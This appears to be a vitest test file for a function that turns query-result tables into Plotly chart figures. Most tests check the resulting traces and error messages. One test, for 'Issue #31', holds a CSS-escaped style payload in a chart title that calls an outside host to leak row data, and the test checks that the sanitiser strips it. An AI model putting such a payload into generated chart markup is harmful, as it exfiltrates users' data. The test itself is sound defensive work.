import { describe, expect, it } from 'vitest';
import { PlotlyFigureSchema } from '../protocol/figure';
import { buildChartFigure, type ChartTable } from './chartFigure';

const t: ChartTable = {
  columns: [
    { name: 'species', type: 'VARCHAR' },
    { name: 'island', type: 'VARCHAR' },
    { name: 'mass', type: 'DOUBLE' },
    { name: 'n', type: 'BIGINT' },
  ],
  rows: [
    ['Adelie', 'Torgersen', 3700.5, 52n],
    ['Adelie', 'Biscoe', 3710.1, 44n],
    ['Gentoo', 'Biscoe', 5076.0, 124n],
  ],
};

describe('buildChartFigure', () => {
  it('builds a bar chart with one series and a summary', () => {
    const r = buildChartFigure(t, { type: 'bar', x: 'species', y: 'mass', title: 'Mass' });
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(PlotlyFigureSchema.safeParse(r.figure).success).toBe(true);
    expect(r.figure.data).toEqual([{ type: 'bar', x: ['Adelie', 'Adelie', 'Gentoo'], y: [3700.5, 3710.1, 5076.0], name: undefined }]);
    expect(r.figure.layout).toMatchObject({ title: { text: 'Mass' }, showlegend: false });
    expect(r.points).toBe(3);
    expect(r.summary).toBe('bar chart of 3 rows: x=species, y=mass.');
  });

  it('splits series by colour and converts BIGINT', () => {
    const r = buildChartFigure(t, { type: 'scatter', x: 'mass', y: 'n', color: 'island' });
    if (!r.ok) throw new Error(r.message);
    expect(r.figure.data).toHaveLength(2);
    expect(r.figure.data[1]).toMatchObject({ type: 'scatter', mode: 'markers', name: 'Biscoe', x: [3710.1, 5076.0], y: [44, 124] });
    expect(r.summary).toMatch(/in 2 series by island/);
  });

  it('builds pie, histogram, box, line and heatmap traces', () => {
    const pie = buildChartFigure(t, { type: 'pie', x: 'species', y: 'n' });
    expect(pie.ok && pie.figure.data[0]).toEqual({ type: 'pie', labels: ['Adelie', 'Adelie', 'Gentoo'], values: [52, 44, 124] });
    const hist = buildChartFigure(t, { type: 'histogram', x: 'mass' });
    expect(hist.ok && hist.figure.data[0]).toMatchObject({ type: 'histogram', x: [3700.5, 3710.1, 5076.0] });
    const box = buildChartFigure(t, { type: 'box', x: 'species', y: 'mass' });
    expect(box.ok && box.figure.data[0]).toMatchObject({ type: 'box', x: ['Adelie', 'Adelie', 'Gentoo'] });
    const line = buildChartFigure(t, { type: 'line', x: 'island', y: 'mass' });
    expect(line.ok && line.figure.data[0]).toMatchObject({ mode: 'lines+markers' });
    const heat = buildChartFigure(t, { type: 'heatmap', x: 'species', y: 'n', color: 'island' });
    expect(heat.ok && heat.figure.data[0]).toEqual({
      type: 'heatmap',
      x: ['Adelie', 'Gentoo'],
      y: ['Torgersen', 'Biscoe'],
      z: [
        [52, null],
        [44, 124],
      ],
    });
  });

  // Issue #31: the title is model text drawn by Plotly as pseudo-HTML; CSS escapes once passed.
  it('draws a title with a loading style as its words, a coloured one as it was', () => {
    const attack = buildChartFigure(t, { type: 'bar', x: 'species', y: 'n', title: '<span style="cursor:u\\72l(http://h/c?d=rows),auto;background-image:u\\rl(http://h/b)">Counts</span>' });
    expect(attack.ok && attack.figure.layout?.title).toEqual({ text: '<span>Counts</span>' });
    const styled = buildChartFigure(t, { type: 'bar', x: 'species', y: 'n', title: '<span style="color:#d62728">Counts</span> <b>by</b> species' });
    expect(styled.ok && styled.figure.layout?.title).toEqual({ text: '<span style="color:#d62728">Counts</span> <b>by</b> species' });
  });

  it('explains missing columns, missing y and empty results', () => {
    expect(buildChartFigure(t, { type: 'bar', x: 'sex', y: 'mass' })).toEqual({
      ok: false,
      message: 'the x column "sex" is not in the query result (columns: species, island, mass, n)',
    });
    expect(buildChartFigure(t, { type: 'line', x: 'species' })).toMatchObject({ ok: false, message: 'a line chart needs a y column' });
    expect(buildChartFigure({ columns: t.columns, rows: [] }, { type: 'histogram', x: 'mass' })).toMatchObject({ ok: false });
  });
});
